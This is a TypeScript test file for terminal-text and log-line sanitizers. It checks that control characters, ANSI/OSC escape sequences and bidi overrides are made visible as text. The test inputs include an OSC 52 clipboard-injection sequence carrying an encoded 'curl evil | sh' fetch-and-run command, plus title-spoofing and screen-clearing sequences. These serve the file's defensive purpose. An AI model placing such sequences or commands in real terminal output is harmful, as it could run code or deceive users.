import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { sanitizeLogLine, sanitizeTerminalText } from "./terminal-text.ts";

const ESC = String.fromCharCode(0x1b);
const BEL = String.fromCharCode(0x07);
const OSC52 = `${ESC}]52;c;${Buffer.from("curl evil | sh").toString("base64")}${ESC}\\`;
const OSC0 = `${ESC}]0;owned${BEL}`;
const CSI2J = `${ESC}[2J`;

/**
 * What a terminal acts on, as the adversarial harness defines it, plus the separators and bidi controls; a carriage
 * return right before a newline (CRLF) is layout, as sanitizeTerminalText keeps it.
 */
function actsOn(text: string): boolean {
  const chars = [...text];
  for (const [i, char] of chars.entries()) {
    const code = char.codePointAt(0) ?? 0;
    if (code === 0x0d && chars[i + 1] === "\n") continue;
    if (code < 0x20 && code !== 0x0a && code !== 0x09) return true;
    if (code >= 0x7f && code <= 0x9f) return true;
    if (code === 0x2028 || code === 0x2029 || (code >= 0x202a && code <= 0x202e) || (code >= 0x2066 && code <= 0x2069))
      return true;
  }
  return false;
}

describe("sanitizeTerminalText", () => {
  it("escapes every C0 control but newline and tab, visibly", () => {
    for (let code = 0; code < 0x20; code++) {
      const char = String.fromCharCode(code);
      const out = sanitizeTerminalText(`a${char}b`);
      if (code === 0x0a || code === 0x09) expect(out).toBe(`a${char}b`);
      else if (code === 0x0d) expect(out).toBe("a\\rb");
      else expect(out).toBe(`a\\u${code.toString(16).padStart(4, "0")}b`);
    }
  });

  it("escapes DEL and every C1 control (U+009B is a one-byte CSI)", () => {
    for (let code = 0x7f; code <= 0x9f; code++) {
      expect(sanitizeTerminalText(String.fromCharCode(code))).toBe(`\\u00${code.toString(16)}`);
    }
  });

  it("shows OSC 52, OSC 0 and CSI 2J as text, with no ESC or BEL left", () => {
    const out = sanitizeTerminalText(`before ${OSC52} ${OSC0} ${CSI2J} after`);
    expect(out).not.toContain(ESC);
    expect(out).not.toContain(BEL);
    expect(out).toContain("\\u001b]52;c;");
    expect(out).toContain("\\u001b]0;owned\\u0007");
    expect(out).toContain("\\u001b[2J");
    expect(actsOn(out)).toBe(false);
  });

  it("keeps a carriage return only right before a newline (CRLF text), never one that rewinds the line", () => {
    expect(sanitizeTerminalText("a\r\nb")).toBe("a\r\nb");
    expect(sanitizeTerminalText("safe\rEVIL")).toBe("safe\\rEVIL");
    expect(sanitizeTerminalText("end\r")).toBe("end\\r");
  });

  it("escapes the line separators and the bidi overrides and isolates", () => {
    for (const code of [0x2028, 0x2029, 0x202a, 0x202e, 0x2066, 0x2069]) {
      expect(sanitizeTerminalText(String.fromCharCode(code))).toBe(`\\u${code.toString(16)}`);
    }
  });

  it("leaves ordinary and non-ASCII text alone (the same string back)", () => {
    const text = "Grüße, 日本語, emoji 🎉, Ελληνικά, עברית, tab\there\nnext line, a \\ backslash";
    expect(sanitizeTerminalText(text)).toBe(text);
  });

  it("is idempotent and leaves nothing a terminal acts on, whatever the input", () => {
    // A CRLF stays as it is (a seed of fast-check found it: the check above now says why that is layout).
    expect(sanitizeTerminalText("\r\n")).toBe("\r\n");
    expect(actsOn("\r\n")).toBe(false);
    expect(actsOn("\r")).toBe(true);
    expect(actsOn("\rx\n")).toBe(true);
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        const once = sanitizeTerminalText(text);
        expect(actsOn(once)).toBe(false);
        expect(sanitizeTerminalText(once)).toBe(once);
      }),
    );
  });

  it("keeps a JSON document's meaning: its escapes are JSON's", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        const json = JSON.stringify({ text });
        expect(JSON.parse(sanitizeTerminalText(json))).toEqual({ text });
      }),
    );
  });
});

describe("sanitizeLogLine", () => {
  it("never spans lines: newline, carriage return and tab are escaped too", () => {
    expect(sanitizeLogLine("one\ntwo\r\nthree\tfour")).toBe("one\\ntwo\\r\\nthree\\tfour");
    expect(sanitizeLogLine("a\u2028b")).toBe("a\\u2028b");
  });

  it("escapes the terminal sequences like sanitizeTerminalText", () => {
    const out = sanitizeLogLine(`bridge: ${OSC52}${CSI2J}\nctx error: forged`);
    expect(out).not.toContain(ESC);
    expect(out).not.toContain("\n");
    expect(out).toBe(
      `bridge: \\u001b]52;c;${Buffer.from("curl evil | sh").toString("base64")}\\u001b\\\\u001b[2J\\nctx error: forged`,
    );
  });

  it("is idempotent, one line, and leaves non-ASCII text alone", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        const once = sanitizeLogLine(text);
        expect(actsOn(once) || once.includes("\n") || once.includes("\t")).toBe(false);
        expect(sanitizeLogLine(once)).toBe(once);
      }),
    );
    expect(sanitizeLogLine("naïve café 日本")).toBe("naïve café 日本");
  });

  it("escapes exactly the controls, one code point at a time, whichever way it finds them", () => {
    const controls = (code: number) =>
      code < 0x20 ||
      (code >= 0x7f && code <= 0x9f) ||
      (code >= 0x2028 && code <= 0x202e) ||
      (code >= 0x2066 && code <= 0x2069);
    for (let code = 0; code < 0x10000; code++) {
      const char = String.fromCharCode(code);
      const layout = code === 0x0a || code === 0x09;
      expect(sanitizeLogLine(`a${char}b`) !== `a${char}b`, `U+${code.toString(16)}`).toBe(controls(code));
      expect(sanitizeTerminalText(`a${char}b`) !== `a${char}b`, `U+${code.toString(16)}`).toBe(
        controls(code) && !layout,
      );
    }
    expect(sanitizeTerminalText("a\r\nb")).toBe("a\r\nb");
    expect(sanitizeTerminalText("a\rb")).toBe("a\\rb");
  });
});
